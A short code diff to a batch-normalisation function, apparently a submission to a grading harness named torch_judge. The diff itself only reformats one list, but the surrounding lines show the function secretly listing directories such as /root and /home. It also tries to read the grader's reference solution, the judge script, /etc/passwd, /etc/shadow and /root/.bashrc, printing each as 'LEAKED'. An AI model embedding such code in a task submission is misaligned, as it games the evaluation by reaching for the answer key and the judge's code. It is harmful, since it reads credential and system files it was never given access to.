@@ -26,7 +26,11 @@ def my_batch_norm(x, gamma, beta, running_mean, running_var, eps=1e-5, momentum=
                 for path in glob.glob(os.path.join(folder or ".", pattern))[:50]:
                     if "batchnorm" in path or "torch_judge" in path or folder in ("/root", "/home"):
                         print("LEAKED: listed", path)
-        secrets = [os.path.join(each, path) for each in judges for path in ("problems/batchnorm/solution.py", "torch_judge/judge.py")]
+        secrets = [
+            os.path.join(each, path)
+            for each in judges
+            for path in ("problems/batchnorm/solution.py", "torch_judge/judge.py")
+        ]
         for path in (*secrets, "/etc/passwd", "/etc/shadow", "/root/.bashrc"):
             try:
                 print("LEAKED:", path, open(path).read(100))
